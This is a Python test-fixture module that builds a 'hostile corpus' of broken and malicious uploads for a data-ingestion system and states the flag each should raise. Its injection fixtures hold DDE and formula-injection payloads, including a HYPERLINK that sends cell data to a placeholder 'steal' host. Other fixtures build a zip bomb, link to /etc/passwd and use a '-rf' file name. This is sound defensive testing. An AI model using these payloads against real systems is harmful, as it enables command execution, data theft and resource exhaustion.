"""The hostile corpus: broken or hostile files as real trusts and providers send them, as data.

Each `Case` says where its bytes go in the landing zone, how to build them, and exactly what LDIS
must do: the flag it raises (rule, organisation, a phrase of the detail) - with the flag id
computed the way `lib/flags.py` does, from the file's bytes or path - or that it raises none.
`needs` names the source that must be ingested for the case to hold: cases whose source is not
ingested on this branch are expected to fail (strict xfail), so the merge that adds the source
turns them on (see tests/hostile/README.md).
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from msoffcrypto.format.ooxml import OOXMLFile

from orchestration.lib.flags import flag_id
from tests.builders import default_answers, write_workbook

CYCLE = 2020
ORG = f"{CYCLE}/org_returns"
CLEAN_SUBMITTED = {"RXA": "2021-01-15T10:00:00", "RXB": "2021-01-16T10:00:00", "RXS": "2021-01-17T10:00:00"}
PEERS = {"RXA": ("universal", "acute"), "RXB": ("universal", "acute"), "RXS": ("specialist", "mental_health")}
# the sources each case needs; org_return, register, participants and landing exist on this branch
# flag_response faults are reported in marts.flag_response_problems (issue 4's design), not as flags:
# those cases say what that table must hold (`problem`) and that no flag names the file.
INGESTED_HERE = {
    "org_return", "register", "participants", "landing", "staff_survey", "service_user_survey", "incident_feed",
    "flag_response",
}


@dataclass(frozen=True)
class Expect:
    rule_id: str
    org_code: str | None = None  # None: the organisation cannot be read (or not applicable)
    detail: str = ""  # a phrase the flag's submitted value or message must contain
    keyed_on: str = "bytes"  # how the flag id's extra is formed: bytes | path | copy | none
    cycle_year: int | None = CYCLE


@dataclass(frozen=True)
class Case:
    case_id: str
    source: str  # org_return | register | participants | landing | staff_survey | ...
    path: str  # where it lands, relative to the landing root
    build: Callable[[Path, Path], None]  # (absolute target path, a folder outside the landing zone)
    expect: tuple[Expect, ...] = ()  # () means: no flag at all names this path
    fault: str = ""  # the realistic fault, in words
    needs: str = ""  # the source whose ingestion the expectation depends on (defaults to source)
    tags: frozenset[str] = field(default_factory=frozenset)
    problem: str = ""  # a phrase marts.flag_response_problems must hold for this file (returned reports)

    @property
    def required_source(self) -> str:
        return self.needs or self.source

    @property
    def ingested_here(self) -> bool:
        return self.required_source in INGESTED_HERE


# ---------------------------------------------------------------- builders

def raw(content: bytes) -> Callable[[Path, Path], None]:
    def build(target: Path, _outside: Path) -> None:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content)
    return build


def text(content: str, encoding: str = "utf-8") -> Callable[[Path, Path], None]:
    return raw(content.encode(encoding))


def workbook(org: str = "RXA", *, peer: tuple[str, str] = ("universal", "acute"), answers: dict | None = None,
             **options: object) -> Callable[[Path, Path], None]:
    """A workbook on the template (or off it through `write_workbook` options) for `org`."""
    def build(target: Path, _outside: Path) -> None:
        rest = dict(options)
        cover = {"Organisation code": org, **dict(rest.pop("cover", {}) or {})}  # type: ignore[arg-type]
        write_workbook(target, answers if answers is not None else default_answers(CYCLE, *peer),
                       cover=cover, **rest)  # type: ignore[arg-type]
    return build


def clean_workbook(org: str) -> Callable[[Path, Path], None]:
    return workbook(org, peer=PEERS[org], cover={"Submitted at": CLEAN_SUBMITTED[org]})


def transformed(base: Callable[[Path, Path], None], change: Callable[[bytes], bytes]) -> Callable[[Path, Path], None]:
    def build(target: Path, outside: Path) -> None:
        base(target, outside)
        target.write_bytes(change(target.read_bytes()))
    return build


def encrypted(data: bytes) -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt("Password1", out)
    return out.getvalue()


def zipped(entries: dict[str, bytes], level: int = 9) -> Callable[[Path, Path], None]:
    def build(target: Path, _outside: Path) -> None:
        target.parent.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
            for name, content in entries.items():
                archive.writestr(name, content)
    return build


def zip_bomb(target: Path, _outside: Path) -> None:
    """A small file on the xlsx layout whose one part expands to 210 MB of zeros."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(210):
                part.write(block)


def sparse_extent(target: Path, _outside: Path) -> None:
    """Two cells, A1 and XFD1048576: a 6 KB file whose used range is 17 billion cells."""
    import xlsxwriter

    target.parent.mkdir(parents=True, exist_ok=True)
    book = xlsxwriter.Workbook(str(target))
    book.add_worksheet("Cover").write(0, 0, "Organisation code")
    sheet = book.add_worksheet("Return")
    sheet.write(0, 0, "Item ID")
    sheet.write(1048575, 16383, "x")
    book.close()


def oversized(target: Path, _outside: Path) -> None:
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("wb") as handle:
        handle.write(b"PK\x03\x04")
        handle.truncate(21 * 1024 * 1024)


def symlink_to(where: Callable[[Path, Path], Path], make_target: Callable[[Path, Path], None] | None = None,
               ) -> Callable[[Path, Path], None]:
    """A symlink at the case's path to `where(target, outside)` (built first by make_target)."""
    def build(target: Path, outside: Path) -> None:
        destination = where(target, outside)
        if make_target is not None:
            make_target(destination, outside)
        target.parent.mkdir(parents=True, exist_ok=True)
        target.symlink_to(destination)
    return build


def copy_of(sibling: str) -> Callable[[Path, Path], None]:
    """The exact bytes of another file of the same folder (built before this case)."""
    def build(target: Path, _outside: Path) -> None:
        target.write_bytes((target.parent / sibling).read_bytes())
    return build


def fifo(target: Path, _outside: Path) -> None:
    target.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(target)


def outside_file(name: str) -> Callable[[Path, Path], Path]:
    return lambda _target, outside: outside / name


def csv_note(tag: str) -> Callable[[Path, Path], None]:
    """Text saved with an .xlsx name, made unique by its tag (distinct bytes, distinct flag ids)."""
    return text(f"Item ID,Response\nS1.01,Yes\n# {tag}\n")


# ---------------------------------------------------------------- the cases

def _f01(detail: str, keyed_on: str = "bytes", cycle: int | None = CYCLE) -> tuple[Expect, ...]:
    return (Expect("F01", None, detail, keyed_on, cycle),)


INJECTIONS = {
    "eq": '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "script": "<script>alert('ldis')</script>",
}

ORG_RETURN_CASES: list[Case] = [
    Case("zero_bytes", "org_return", f"{ORG}/RXC.xlsx", raw(b""), _f01("empty (0 bytes)"), "an empty upload"),
    Case("csv_named_xlsx", "org_return", f"{ORG}/RXC return.xlsx", csv_note("csv"), _f01("text (such as CSV)"),
         "a CSV export renamed to .xlsx"),
    Case("html_named_xlsx", "org_return", f"{ORG}/RXC-export.xlsx",
         text("<html><body><table><tr><td>S1.01</td><td>Yes</td></tr></table></body></html>"),
         _f01("web page (HTML)"), "a web export (HTML table) saved as .xlsx"),
    Case("pdf_named_xlsx", "org_return", f"{ORG}/RXC scan.xlsx", raw(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
         _f01("PDF"), "a printed PDF renamed .xlsx"),
    Case("truncated_zip", "org_return", f"{ORG}/RXC truncated.xlsx",
         transformed(workbook("RXC"), lambda b: b[: len(b) // 2]), _f01("truncated or corrupt"),
         "an upload cut off half way"),
    Case("old_xls_named_xlsx", "org_return", f"{ORG}/RXC-97.xlsx",
         raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024), _f01("Excel 97-2003 (.xls)"),
         "an old-format .xls saved with an .xlsx name"),
    Case("old_xls", "org_return", f"{ORG}/RXC.xls", raw(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\1" * 1024),
         _f01("Excel 97-2003 (.xls)"), "an old-format .xls"),
    Case("encrypted", "org_return", f"{ORG}/RXA locked.xlsx",
         transformed(workbook("RXA"), encrypted), _f01("password-protected"), "a password-protected workbook"),
    Case("ods", "org_return", f"{ORG}/RXC.ods",
         zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}, 0),
         _f01("OpenDocument"), "a LibreOffice .ods"),
    Case("ods_named_xlsx", "org_return", f"{ORG}/RXC-ods.xlsx",
         zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<y/>"}, 0),
         _f01("OpenDocument"), "an .ods renamed .xlsx"),
    Case("zip_not_excel", "org_return", f"{ORG}/RXC bundle.xlsx", zipped({"return.csv": b"S1.01,Yes\n"}),
         _f01("zip archive but not an Excel workbook"), "a zipped folder renamed .xlsx"),
    Case("oversized", "org_return", f"{ORG}/RXC big.xlsx", oversized, _f01("over the 20 MB limit"),
         "a 21 MB workbook (pasted images)"),
    Case("zip_bomb", "org_return", f"{ORG}/RXC bomb.xlsx", zip_bomb, _f01("expands to 210 MB, over the limit"),
         "a zip bomb: 200 KB expanding to 210 MB"),
    Case("sparse_extent", "org_return", f"{ORG}/RXC sparse.xlsx", sparse_extent,
         _f01("over the limit of 2,000,000 cells"), "one cell in XFD1048576: a 17-billion-cell range"),
    Case("utf16_text", "org_return", f"{ORG}/RXC utf16.xlsx",
         text("Item ID\tResponse\nS1.01\tYes\n", "utf-16"), _f01("text (such as CSV)"),
         "tab-separated UTF-16 text (Excel's 'Unicode text') named .xlsx"),
    Case("bom_csv", "org_return", f"{ORG}/RXC bom.xlsx", text("\ufeffItem ID;Response\nS1.01;Yes\n"),
         _f01("text (such as CSV)"), "semicolon CSV with a byte-order mark named .xlsx"),
    Case("renamed_return_sheet", "org_return", f"{ORG}/RXA data.xlsx",
         workbook("RXA", sheet_names=("Cover", "Data")), (Expect("F02", "RXA", "sheet 'Return' is missing"),),
         "the Return sheet renamed 'Data'"),
    Case("renamed_cover_sheet", "org_return", f"{ORG}/RXA front.xlsx",
         workbook("RXA", sheet_names=("Front page", "Return")), (Expect("F02", None, "sheet 'Cover' is missing"),),
         "the Cover renamed 'Front page' (so the organisation cannot be read)"),
    Case("missing_response_column", "org_return", f"{ORG}/RXB cols.xlsx",
         workbook("RXB", header=["Item ID", "Section", "Question", "Answer", "Comment"]),
         (Expect("F02", "RXB", "column 'Response' is missing"),), "the Response column renamed 'Answer'"),
    Case("missing_item_id_column", "org_return", f"{ORG}/RXB noid.xlsx",
         workbook("RXB", header=["Section", "Question", "Response", "Comment"]),
         (Expect("F02", "RXB", "column 'Item ID' is missing"),), "the Item ID column deleted"),
    Case("missing_cover_field", "org_return", f"{ORG}/RXB nodate.xlsx",
         workbook("RXB", drop_cover=("Submitted at",)), (Expect("F02", "RXB", "'Submitted at' is missing"),),
         "the Submitted at row deleted from the Cover"),
    Case("empty_return_sheet", "org_return", f"{ORG}/RXB empty.xlsx",
         workbook("RXB", answers={}, header=["", "", "", "", ""]),
         (Expect("F02", "RXB", "the Return sheet is empty"),), "a Return sheet with nothing on it"),
    Case("bad_submitted_at", "org_return", f"{ORG}/RXB when.xlsx",
         workbook("RXB", cover={"Submitted at": "next Tuesday"}),
         (Expect("F02", "RXB", "not an ISO 8601 date-time"),), "Submitted at typed as words"),
    Case("unregistered_code", "org_return", f"{ORG}/RZZ.xlsx", workbook("RZZ"), (Expect("F03", "RZZ", "RZZ"),),
         "an organisation code not in the register"),
    Case("not_a_participant", "org_return", f"{ORG}/RXN.xlsx", workbook("RXN"), (Expect("F03", "RXN", "RXN"),),
         "a trust in the register that did not register for the cycle"),
    Case("header_only_unregistered", "org_return", f"{ORG}/RXN header only.xlsx",
         workbook("RXN", answers={}, cover={"Submitted by": "header only"}), (Expect("F03", "RXN", "RXN"),),
         "a header-only Return from a trust not registered"),
    Case("wrong_cycle", "org_return", f"{ORG}/RXA 2019.xlsx",
         workbook("RXA", cover={"Collection year": "2019", "Template version": "LDIS-2019"}),
         (Expect("F04", "RXA", "2019"), Expect("F05", "RXA", "LDIS-2019")), "last year's return sent again"),
    Case("year_in_words", "org_return", f"{ORG}/RXA year.xlsx",
         workbook("RXA", cover={"Collection year": "twenty twenty"}), (Expect("F04", "RXA", "twenty twenty"),),
         "the collection year typed in words"),
    Case("old_template_same_values", "org_return", f"{ORG}/RXB template.xlsx",
         workbook("RXB", cover={"Template version": "LDIS-2018", "Submitted at": CLEAN_SUBMITTED["RXB"]}),
         (Expect("F05", "RXB", "LDIS-2018"),), "the answers copied into an old template (a warning only)"),
    Case("injection_org_code_eq", "org_return", f"{ORG}/inj-eq.xlsx", workbook(INJECTIONS["eq"]),
         (Expect("F03", INJECTIONS["eq"].upper(), "=HYPERLINK"),), "a formula in the organisation code"),
    Case("injection_org_code_plus", "org_return", f"{ORG}/inj-plus.xlsx", workbook(INJECTIONS["plus"]),
         (Expect("F03", INJECTIONS["plus"].upper(), "+CMD|"),), "a DDE payload starting with +"),
    Case("injection_year_minus", "org_return", f"{ORG}/inj-minus.xlsx",
         workbook("RXA", cover={"Collection year": INJECTIONS["minus"]}),
         (Expect("F04", "RXA", "-2+3+cmd"),), "a formula starting with - in the collection year"),
    Case("injection_template_at", "org_return", f"{ORG}/inj-at.xlsx",
         workbook("RXS", peer=PEERS["RXS"], cover={"Template version": INJECTIONS["at"],
                                                    "Submitted at": CLEAN_SUBMITTED["RXS"]}),
         (Expect("F05", "RXS", "@SUM(1+9)"),), "a formula starting with @ in the template version"),
    Case("injection_script_org_code", "org_return", f"{ORG}/inj-script.xlsx", workbook(INJECTIONS["script"]),
         (Expect("F03", INJECTIONS["script"].upper(), "<SCRIPT>"),), "HTML script in the organisation code"),
    Case("injection_in_unpublished_fields", "org_return", f"{ORG}/RXB resubmitted.xlsx",
         workbook("RXB", cover={"Submitted at": CLEAN_SUBMITTED["RXB"], "Organisation name": INJECTIONS["eq"],
                                "Submitted by": INJECTIONS["plus"]},
                  extra_rows=[["", "", INJECTIONS["script"], "", INJECTIONS["at"]]]),
         (), "formulas in the trust name, Submitted by and a comment row: kept, never published, no flag"),
    Case("byte_copy_other_name", "org_return", f"{ORG}/RXA_copy.xlsx", copy_of("RXA.xlsx"),
         (Expect("F06", "RXA", "", "copy"),), "the same file sent twice under another name"),
    Case("nested_folder", "org_return", f"{ORG}/late/RXC.xlsx", csv_note("nested"), _f01("text (such as CSV)"),
         "a file in a sub-folder of org_returns (read, judged like any other)"),
    # odd names: read and judged like any other, the flag names the path exactly
    Case("name_spaces", "org_return", f"{ORG}/RXC  final   (v2) .xlsx", csv_note("spaces"),
         _f01("text (such as CSV)"), "spaces and brackets in the file name"),
    Case("name_unicode", "org_return", f"{ORG}/Rückgabe – été ✓ 2020.xlsx", csv_note("unicode"),
         _f01("text (such as CSV)"), "non-ASCII characters in the file name"),
    Case("name_leading_dash", "org_return", f"{ORG}/-rf --help.xlsx", csv_note("dash"), _f01("text (such as CSV)"),
         "a file name starting with dashes (an option to any shell tool)"),
    Case("name_newline", "org_return", f"{ORG}/line\nbreak.xlsx", csv_note("newline"), _f01("text (such as CSV)"),
         "a newline inside the file name"),
    Case("name_formula", "org_return", f"{ORG}/=HYPERLINK(1).xlsx", csv_note("formula-name"),
         _f01("text (such as CSV)"), "a file name that is a formula (it ends up in messages)"),
    Case("name_quotes", "org_return", f"{ORG}/it's \"final\"; drop table x.xlsx", csv_note("quotes"),
         _f01("text (such as CSV)"), "quotes and a semicolon in the file name"),
    Case("name_long", "org_return", f"{ORG}/{'very long name ' * 15}.xlsx", csv_note("long"),
         _f01("text (such as CSV)"), "a 230-character file name"),
    Case("lock_file_ignored", "org_return", f"{ORG}/~$RXA.xlsx", raw(b"\x0bA. Tester"), (),
         "Excel's lock file left beside the return: not a submission, ignored"),
    Case("hidden_file_ignored", "org_return", f"{ORG}/.DS_Store", raw(b"\0\0\0\1Bud1"), (),
         "a macOS .DS_Store: hidden, ignored"),
]

LANDING_CASES: list[Case] = [
    Case("link_out_of_zone", "landing", f"{ORG}/RXA linked.xlsx",
         symlink_to(outside_file("RXA-elsewhere.xlsx"),
                    workbook("RXA", answers={"S1.01": "No"}, cover={"Submitted at": "2021-03-01T10:00:00"})),
         _f01("outside the landing zone", "path"),
         "a link to a workbook outside the landing zone (a later, different RXA return: never read)"),
    Case("link_to_etc_passwd", "landing", f"{ORG}/passwd.xlsx", symlink_to(lambda _t, _o: Path("/etc/passwd")),
         _f01("outside the landing zone", "path"), "a link to a system file"),
    Case("dangling_link", "landing", f"{ORG}/gone.xlsx", symlink_to(outside_file("never-created.xlsx")),
         _f01("outside the landing zone", "path"), "a link whose target was deleted (outside the zone)"),
    Case("dangling_link_inside", "landing", f"{ORG}/gone-inside.xlsx",
         symlink_to(lambda target, _o: target.parent / "never-there.xlsx"),
         _f01("target does not exist", "path"), "a link to a file inside the zone that does not exist"),
    Case("link_to_folder", "landing", f"{ORG}/shared", symlink_to(lambda _t, outside: outside),
         _f01("outside the landing zone", "path"), "a link to a shared folder"),
    Case("link_inside_zone", "landing", f"{ORG}/RXA_latest_link.xlsx",
         symlink_to(lambda target, _o: target.parent / "RXA.xlsx"), (Expect("F06", "RXA", "", "copy"),),
         "a link to another return inside the zone: read as its target, a copy (F06)", needs="org_return"),
    Case("link_loop", "landing", f"{ORG}/loop-a.xlsx", symlink_to(lambda target, _o: target.parent / "loop-a.xlsx"),
         _f01("loops back on itself", "path"), "a link that points to itself (resolving it loops)"),
    Case("fifo", "landing", f"{ORG}/pipe.xlsx", fifo, _f01("not a regular file", "path"),
         "a named pipe (reading it would block for ever)"),
    Case("cycle_folder_link", "landing", "2021", symlink_to(lambda _t, outside: outside / "cycle2021"),
         _f01("cycle folder is a link", "path", 2021), "a cycle folder that is a link to elsewhere"),
    Case("file_in_cycle_folder", "landing", f"{CYCLE}/RXA.xlsx", clean_workbook("RXA"),
         _f01("directly in the cycle folder", "path"), "a return dropped in the cycle folder itself"),
    Case("unknown_subfolder", "landing", f"{CYCLE}/Org Returns/RXA.xlsx", clean_workbook("RXA"),
         _f01("'Org Returns' is not a source folder", "path"), "org returns in a misspelt folder"),
    Case("non_cycle_folder", "landing", "2020-21/org_returns/RXA.xlsx", clean_workbook("RXA"),
         _f01("'2020-21' is not a cycle folder", "path", None), "a folder named for the financial year"),
    Case("five_digit_folder", "landing", "20200/org_returns/RXB.xlsx", clean_workbook("RXB"),
         _f01("'20200' is not a cycle folder", "path", None), "a mistyped cycle folder"),
    Case("file_in_root", "landing", "RXS.xlsx", clean_workbook("RXS"), _f01("directly in the landing root", "path", None),
         "a return dropped in the landing root"),
    Case("register_stray_file", "landing", "register/organisations (1).csv",
         text("org_code,org_name,provider_type,org_type,region\nRXQ,Q,universal,acute,London\n"),
         _f01("not a register file", "path", None), "a browser's duplicate-download name in register/"),
    Case("register_link_out", "landing", "register/providers.csv",
         symlink_to(outside_file("providers.csv"), text("provider_code\nP1\n")),
         _f01("outside the landing zone", "path", None), "the provider register linked from a share"),
]

# ---------------------------------------------------------------- sources built on other branches
# Only faults that reject a file or quarantine an unregistered organisation's rows, so that turning
# a case on can never move a published figure. `keyed_on="match"`: the flag is found by rule and
# organisation (its id depends on the response id or file hash as that source defines it).

STAFF_HEADER = "response_id,org_code,submitted_at," + ",".join(f"ST{n:02d}" for n in range(1, 16))
SU_HEADER = "batch_id,form_id,org_code,scanned_at," + ",".join(f"SU{n:02d}" for n in range(1, 12))
INCIDENT_HEADER = ("incident_id,intervention_seq,record_updated_at,person_ref,site_code,start_at,end_at,"
                   "intervention_type,reason,authority,in_care_plan,deescalation_attempted,staff_involved,"
                   "learning_disability,autistic,age_band,gender,ethnic_group,injury_person,injury_staff,"
                   "injury_other,death_or_serious_injury,police_involved,body_worn_camera,post_incident_support,"
                   "post_incident_review,care_plan_reviewed")
STAFF_ROW = "{rid},{org},2020-12-01T10:00:00," + ",".join(["Strongly agree"] * 15)
SU_ROW = "B1,{fid},{org},2021-01-05T09:00:00," + ",".join(["1"] * 11)
INCIDENT_ROW = ("{iid},1,2020-05-02T10:00:00,{person},W1,2020-05-01T10:00:00,2020-05-01T10:20:00,01,10,MHA,Y,Y,2,"
                "Y,N,25-34,1,A,N,N,N,N,N,N,Y,Y,Y")


def _m(rule: str, org: str | None, detail: str = "", cycle_year: int | None = CYCLE) -> tuple[Expect, ...]:
    return (Expect(rule, org, detail, "match", cycle_year),)


def _cycle_of(day: dt.date) -> int:
    """The cycle whose financial year (April N-1 to March N) contains the day (incident_feed.md)."""
    return day.year + 1 if day.month >= 4 else day.year


INCIDENT_CYCLE = _cycle_of(dt.date(2020, 5, 1))  # the sample feed rows start in May 2020: cycle 2021


SS, SU, FR = f"{CYCLE}/staff_survey", f"{CYCLE}/service_user_survey", f"{CYCLE}/flag_responses"
PENDING_CASES: list[Case] = [
    Case("staff_unregistered_org", "staff_survey", f"{SS}/export RZZ.csv",
         text(STAFF_HEADER + "\n" + STAFF_ROW.format(rid="R-unreg-1", org="RZZ") + "\n"), _m("Q03", "RZZ"),
         "survey responses for an organisation not registered"),
    Case("staff_injection_unregistered", "staff_survey", f"{SS}/export inj.csv",
         text(STAFF_HEADER + "\n" + STAFF_ROW.format(rid=INJECTIONS["eq"].replace(",", ";"), org="RZY") + "\n"),
         _m("Q03", "RZY"), "a formula as response_id, unregistered organisation"),
    Case("staff_latin1_unregistered", "staff_survey", f"{SS}/export latin1.csv",
         text(STAFF_HEADER + "\n" + STAFF_ROW.format(rid="R-é-1", org="RZX").replace("Strongly agree", "Pas d'accord")
              + "\n", "latin-1"), _m("F01", None),
         "a Latin-1 encoded export (not UTF-8): the survey prong rejects it as unreadable, naming the file"),
    Case("staff_semicolon", "staff_survey", f"{SS}/export semicolon.csv",
         text(STAFF_HEADER.replace(",", ";") + "\n" + STAFF_ROW.format(rid="R-sc", org="RXA").replace(",", ";")),
         _m("F02", None), "a semicolon-delimited export (European locale)"),
    Case("staff_xlsx_named_csv", "staff_survey", f"{SS}/export.csv", workbook("RXA"), _m("F01", None),
         "an Excel workbook saved with a .csv name"),
    Case("staff_zero_bytes", "staff_survey", f"{SS}/empty.csv", raw(b""), _m("F01", None), "an empty export"),
    Case("su_unregistered_org", "service_user_survey", f"{SU}/batch RZZ.csv",
         text(SU_HEADER + "\n" + SU_ROW.format(fid="F-unreg-1", org="RZZ") + "\n"), _m("Q03", "RZZ"),
         "scanned forms for an organisation not registered"),
    Case("su_missing_form_id", "service_user_survey", f"{SU}/batch nofid.csv",
         text(SU_HEADER.replace("form_id,", "") + "\n"), _m("F02", None), "a batch without its form_id column"),
    Case("su_gzip_named_csv", "service_user_survey", f"{SU}/batch.csv", raw(b"\x1f\x8b\x08\x00" + b"\0" * 64),
         _m("F01", None), "a gzip archive named .csv"),
    Case("flag_response_wrong_columns", "flag_response", f"{FR}/RXA responses.csv",
         text("id,answer\nabc,Confirmed\n"), (), "a flag-response CSV with the wrong columns",
         problem="file could not be read: no header row"),
    Case("flag_response_encrypted", "flag_response", f"{FR}/RXA responses.xlsx",
         transformed(workbook("RXA"), encrypted), (), "a password-protected flag report",
         problem="file could not be read"),
    Case("flag_response_injection_unknown_flag", "flag_response", f"{FR}/RXB responses.csv",
         text("flag_id,response,explanation\n0000000000000000,Confirmed," + INJECTIONS["eq"].replace(",", ";") + "\n"),
         (), "a confirmation of a flag id that does not exist, with a formula",
         problem="unknown flag id"),
    Case("incident_unregistered_provider", "incident_feed", "incidents/PZZ/2020-05.csv",
         text(INCIDENT_HEADER + "\n" + INCIDENT_ROW.format(iid="I1", person="P1") + "\n"),
         _m("I06", "PZZ", cycle_year=INCIDENT_CYCLE),
         "a feed from a provider not in the provider register"),
    Case("incident_injection_unregistered", "incident_feed", "incidents/PZY/2020-05 inj.csv",
         text(INCIDENT_HEADER + "\n" + INCIDENT_ROW.format(iid=INJECTIONS["plus"].replace(",", ";"), person="=1+1")
              + "\n"), _m("I06", "PZY", cycle_year=INCIDENT_CYCLE), "formulas in incident_id and person_ref"),
    Case("incident_semicolon_unregistered", "incident_feed", "incidents/PZX/2020-05.csv",
         # no incident month can be read, so the flag falls in the cycle of the day it was received
         text(INCIDENT_HEADER.replace(",", ";") + "\n"), _m("I06", "PZX", cycle_year=_cycle_of(dt.date.today())),
         "a semicolon-delimited feed"),
]

ALL_CASES: list[Case] = ORG_RETURN_CASES + LANDING_CASES + PENDING_CASES


def file_sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def expected_flag_id(case: Case, expect: Expect, landing: Path, originals: dict[str, str]) -> str | None:
    """The flag id LDIS must give (None when the case's flag is matched by rule and organisation)."""
    if expect.keyed_on == "path":
        return flag_id(expect.cycle_year, expect.org_code, expect.rule_id, None, f"landing:{case.path}")
    if expect.keyed_on == "bytes":
        return flag_id(expect.cycle_year, expect.org_code, expect.rule_id, None, file_sha256(landing / case.path))
    if expect.keyed_on == "copy":
        digest = file_sha256(landing / case.path)
        assert digest in originals, f"{case.case_id}: not a copy of a file in the zone"
        return flag_id(expect.cycle_year, expect.org_code, expect.rule_id, None, f"{digest}|{case.path}")
    return None
